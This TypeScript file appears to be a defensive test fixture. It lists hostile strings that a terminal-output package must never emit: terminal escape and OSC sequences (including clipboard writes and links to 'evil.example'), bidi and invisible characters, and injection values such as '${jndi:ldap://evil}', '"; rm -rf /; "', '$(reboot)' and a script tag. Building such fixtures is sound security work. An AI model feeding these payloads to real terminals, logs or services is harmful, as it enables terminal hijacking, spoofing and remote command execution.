/** Texts that try to control a terminal, break a log, or mislead a reader. */

const ESC = '\u001b'
const CSI = `${ESC}[`
const ST = `${ESC}\\`
const BEL = '\u0007'

/** Escape sequences that none of this package's programs ever sends: one in an output is a vulnerability. */
export const ESCAPE_SEQUENCES: readonly string[] = [
  // Colours, and invisible text.
  ...['38;5;201', '48;2;9;9;9', '8', '5', '30;40', '1;31;5', '10;11', '58:2::1:2:3'].map(it => `${CSI}${it}mhue`),
  // Cursor movement, deletion, scrolling, insertion.
  ...['77A', '77B', '77C', '77D', '7E', '7F', '66G', '3;3H', '3;3f', '3J', '1J', '1K', '9L', '9M', '9P', '9X', '9@'],
  ...['9S', '9T', '2;4r', '7b', '3g', '9Z', '8`', '8a', '8e', '8d', '1;1;9;9$z', '1;1;9;9$x', '5q', '3 q', '1"q'],
  // Modes: cursor, mouse, keyboard, alternate screens, wrapping, origin, insert.
  ...[
    '?1000h',
    '?1002h',
    '?1003h',
    '?1006h',
    '?1015h',
    '?1004h',
    '?47h',
    '?1047h',
    '?1048h',
    '?7l',
    '?6h',
    '4h',
    '?5h',
  ],
  ...['?3h', '?69h', '?9001h', '>4;2m', '>1u', '=5u', '?1h', '?66h', '20h', '2h', '12l', '!p', '?1010l', '?12h'],
  // Reports: the terminal's answer would be read as typed input.
  ...[
    'c',
    '>c',
    '=c',
    '5n',
    '6n',
    '?6n',
    '?15n',
    '?25n',
    '?996n',
    '0x',
    '21t',
    '20t',
    '18t',
    '14t',
    '?u',
    '>q',
    '?1$p',
  ],
  // Windows: size, title reported as input, iconify.
  ...['8;10;20t', '3;0;0t', '2t', '9;1t', '22;0t', '23;0t'],
].map(it => (it.startsWith(ESC) ? it : `${CSI}${it}`))

// biome-ignore format: a list
const OSC_COMMANDS: readonly string[] = [
  '0;owned', '1;icon', '2;title', '3;X=1', '4;1;rgb:ff/00/00', '4;1;?', '7;file:///etc/passwd', '8;;https://evil.example',
  '8;id=1;file:///etc', '9;notify', '9;4;3', '10;?', '11;?', '12;#ff0000', '50;?', '52;c;ZXZpbA==', '52;p;?', '52;;!',
  '104', '110', '111', '133;A', '133;C', '555;x', '633;E;rm', '697;x', '777;notify;a;b', '1337;File=inline=1:AAAA',
  '1337;CopyToClipboard=', '1337;SetUserVar=a=YQ==', '99;i=1;hi', '5522;x',
]

// biome-ignore format: a list
const HOSTILE_CODE_POINTS = {
  controls: [...range(0x01, 0x08), 0x0b, 0x0c, 0x0d, ...range(0x0e, 0x1f), ...range(0x7f, 0x9f)],
  bidi: [0x061c, 0x200e, 0x200f, ...range(0x202a, 0x202e), ...range(0x2066, 0x2069)],
  invisible: [
    0xad, 0x180e, 0x200b, 0x200c, 0x2028, 0x2029, ...range(0x2060, 0x2064), ...range(0x206a, 0x206f), 0xfeff,
    ...range(0xfff9, 0xfffb), 0xe0001, 0xe0041, 0xe007f, 0x1d173, 0x1bca0, 0x13430, 0xe000, 0xf0000, 0x10fffd, 0xffff,
  ],
}

// biome-ignore format: a list
/** More than 200 texts, all different. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...ESCAPE_SEQUENCES,
  ...OSC_COMMANDS.map(it => `${ESC}]${it}${BEL}`),
  ...OSC_COMMANDS.slice(0, 8).map(it => `${ESC}]${it}${ST}`),
  // The same as 8-bit C1 controls, and other strings that swallow all output up to their terminator, if there is one.
  ...['\u009b31;5m', '\u009b2J', '\u009d52;c;ZXZpbA==\u009c', '\u009d0;title\u0007', '\u0090+q544e\u009c', '\u009e^pm\u009c'],
  ...['P$qm', 'P+q544e', 'P1000p', 'Ptmux;', 'Pq#0;2;0;0;0~', '_Gf=24,a=T;AAAA', '^secret', 'Xsos', 'k title'].flatMap(it => [
    `${ESC}${it}${ST}`,
    `${ESC}${it}`,
  ]),
  ...['c', '7', '8', 'D', 'E', 'H', 'M', 'N', 'O', 'Z', '=', '>', '#8', '#3', '(0', ')B', '%G', '%@', ' F', 'l', 'n', '|', '~'].map(
    it => `${ESC}${it}`,
  ),
  ...Object.values(HOSTILE_CODE_POINTS).flatMap(codes => codes.map(code => `a${String.fromCodePoint(code)}b`)),
  // Truncated, doubled and nested sequences.
  ...[ESC, `${ESC}${ESC}[5m`, CSI, `${CSI}${CSI}`, `${CSI}31`, `${ESC}]8;;`, `x${ESC}`, `${ESC}${BEL}`, '\u009b', '\u009d'],
  `${CSI}${'9'.repeat(2_000)}m`,
  `${ESC}]52;c;${'QUFB'.repeat(500)}${BEL}`,
  // Text that looks different from what it is.
  'access \u202elevel\u2066 // \u2069\u2066admin', '\u202eevil.exe', 'pay\u200bpal', 'Anna\u200d', '\u200fAnna', 'gpj.\u202egnp',
  'overwritten\rwith this', 'rubbed\b\b\b\b\b\bout', 'form\ffeed', 'tab\vbed', 'next\u0085line', 'bell\u0007', 'nul\u0000byte',
  '\ud800', '\udfff', 'x\ud83dy', '\ufffe', `${'e\u0301'.repeat(3)}${'\u0336'.repeat(60)}`, `Z${'\u0300\u0489'.repeat(100)}`,
  '\u1160\u3164\uffa0\u115f', '\u2800\u2800', '\ufe0f\ufe0e', '\u034f\u034f', '\u{e0020}\u{e0065}', '\u00a0\u3000\u2003',
  // Text that other programs interpret.
  '%s%n%x', '$\u007bjndi:ldap://evil}', '{{7*7}}', '<script>alert(1)</script>', '"; rm -rf /; "', '$(reboot)', '`reboot`', '%0d%0aX: y',
  '__proto__', 'constructor', 'toString', 'hasOwnProperty', '{"type":"close"}', '[1,2]', '/quit', '/to Eve', '//', '#[fg=red]', '#(id)',
]

function range(from: number, to: number): number[] {
  return Array.from({ length: to - from + 1 }, (_, at) => from + at)
}
